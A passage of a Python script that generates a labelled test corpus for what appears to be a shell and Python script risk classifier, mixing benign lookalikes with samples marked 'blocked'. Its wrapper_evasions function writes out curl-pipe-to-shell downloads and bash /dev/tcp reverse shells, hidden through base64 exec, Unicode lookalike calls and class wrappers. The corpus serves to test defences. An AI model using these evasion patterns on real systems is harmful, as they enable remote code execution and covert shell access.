        py("low", f"lookalike_py_real_low_{i:02d}_{v}", body, pre="", post="")

REALISTIC_MEDIUM_PY = [
    # git helper
    """import subprocess
import sys


def git(*args):
    return subprocess.run(["git", *args], check=True, capture_output=True, text=True).stdout


def main():
    branch = git("rev-parse", "--abbrev-ref", "HEAD").strip()
    print("on", branch)
    if "--pull" in sys.argv:
        print(git("pull", "--ff-only"))


main()
""",
    # monitoring agent: socket + subprocess, but no shell and no fd plumbing
    """import socket
import subprocess

ALLOWED = {"uptime": ["uptime"], "disk": ["df", "-h"]}
conn = socket.create_connection(("monitor.example.com", 9000))
while True:
    name = conn.recv(64).decode().strip()
    if name not in ALLOWED:
        break
    out = subprocess.run(ALLOWED[name], capture_output=True).stdout
    conn.sendall(out)
""",
]
REALISTIC_LOW_API_PY = [
    # API client with a token from the environment
    """import os
import requests

TOKEN = os.environ["API_TOKEN"]


def create_issue(title):
    r = requests.post("https://api.example.com/issues", json={"title": title},
                      headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
    r.raise_for_status()
    return r.json()["id"]


print(create_issue("nightly build failed"))
""",
    # reads ~/.ssh/config (not keys) and reports host names to an inventory API
    """import os
import requests

hosts = []
with open(os.path.expanduser("~/.ssh/config")) as f:
    for line in f:
        if line.strip().lower().startswith("host "):
            hosts.append(line.split()[1])
requests.post("https://inventory.example.com/hosts", json={"hosts": hosts})
""",
    # a bounded worker pool using fork
    """import os

children = []
for i in range(4):
    pid = os.fork()
    if pid == 0:
        print("worker", i)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
""",
    # downloads a data file (no chmod, no exec)
    """import urllib.request

URL = "https://example.com/datasets/iris.csv"
urllib.request.urlretrieve(URL, "iris.csv")
print(open("iris.csv").read()[:200])
""",
]
for i, body in enumerate(REALISTIC_LOW_API_PY):
    for v in range(2):
        py("low", f"lookalike_py_real_low_api_{i:02d}_{v}", body, pre="", post="")

for i, body in enumerate(REALISTIC_MEDIUM_PY):
    for v in range(2):
        py("medium", f"lookalike_py_real_medium_{i:02d}_{v}", body, pre="", post="")

REALISTIC_SH = {
    "low_ops": [
        """#!/bin/sh
# Set up an SSH key, then tell the (public) status API we are ready.
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""
curl -s https://status.example.com/api/ready
""",
        """#!/bin/sh
set -eu
rm -rf build
mkdir -p build
cd build
cmake .. -DCMAKE_BUILD_TYPE=Release
make -j"$(nproc)"
curl -sf -X POST -H 'Content-Type: application/json' -d '{"status":"built"}' https://ci.example.com/hooks/build
""",
        """#!/bin/bash
# rotate our own logs in the working directory
for f in logs/*.log; do
  [ -s "$f" ] || continue
  gzip -c "$f" > "$f.$(date +%F).gz"
  rm -f "$f"
done
""",
    ],
    "low": [
        """#!/bin/sh
history | tail -n 20
""",
        """#!/bin/bash
set -euo pipefail
# Create a fresh deploy key for this project (no network involved).
ssh-keygen -t ed25519 -f ./deploy_key -N "" -C "deploy@example"
ls -l ./deploy_key ./deploy_key.pub
""",
        """#!/bin/bash
# Prints what the disk looks like; never changes anything.
df -h
du -sh ./* 2>/dev/null | sort -h | tail -5
""",
    ],
    "blocked": [
        """#!/bin/sh
echo 'export PATH="$PATH:$HOME/.local/bin"' >> ~/.bashrc
""",
    ],
    "high": [
        """#!/bin/bash
set -e
sudo apt-get update
sudo apt-get install -y build-essential cmake
""",
    ],
}
for group, bodies in REALISTIC_SH.items():
    level = "low" if group == "low_ops" else group
    for i, body in enumerate(bodies):
        for v in range(2):
            add(level, f"lookalike_sh_real_{group}_{i:02d}_{v}.sh", body)

def wrapper_evasions(h, p, u):
    dl = f"curl -s {u} | sh"
    rs = f"bash -i >& /dev/tcp/{h}/{p} 0>&1"
    return [
        f'import os\n\ndef run(c):\n    os.system(c)\n\nrun("{dl}")',
        f'import subprocess\n\ndef sh(cmd, **kw):\n    return subprocess.call(["/bin/bash", "-c", cmd], **kw)\n\nsh("{rs}")',
        f'import os\nexecute = lambda c: os.popen(c).read()\nexecute("{dl}")',
        f'import os\n\ndef inner(x):\n    os.system(x)\n\ndef outer(y):\n    inner(y)\n\nouter("{rs}")',
        f'import base64\n\ndef unpack(p):\n    return base64.b64decode(p)\n\nexec(unpack("{b64("import os; os.system(" + repr(dl) + ")")}"))',
        f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
        f'import os\nCMDS = {{"update": "{dl}", "list": "ls"}}\nos.system(CMDS["update"])',
        f'import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d("{dl}")',
        f'import os, sys\nsrc = sys.argv[1] if len(sys.argv) > 1 else input()\nos.system(f"curl -fsSL {{src}} | bash")',
        f'import subprocess, sys\nhost, port = sys.argv[1], sys.argv[2]\nsubprocess.call("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1", shell=True)',
        f'import os\nsteps = {{"a": "{rs}"}}\nfor k in ["a"]:\n    pass\nos.popen(steps.get("a"))',
        f'import os\n\nclass Updater:\n    def fetch(self, cmd):\n        return os.popen(cmd).read()\n\nUpdater().fetch("{dl}")',
        f'import subprocess\n\nclass Job:\n    def __init__(self, cmd):\n        self.start(cmd)\n\n    def start(self, cmd):\n        subprocess.Popen(cmd, shell=True)\n\nJob("{rs}")',
    ]

for v in range(3):
    h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
    for j, body in enumerate(wrapper_evasions(h, p, u)):
        py("blocked", f"evasion_py_wrapper_{j:02d}_{v}", body)

def main():
    for level in ("low", "medium", "high", "blocked"):
        d = os.path.join(ROOT, level)
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    seen = set()
    for level, name, text in files:
        assert name not in seen, name
        seen.add(name)
        with open(os.path.join(ROOT, level, name), "w") as f:
            f.write(text)
    counts = {}
    for level, _, _ in files:
        counts[level] = counts.get(level, 0) + 1
    print("corpus:", counts, "total", len(files))


if __name__ == "__main__":
    main()
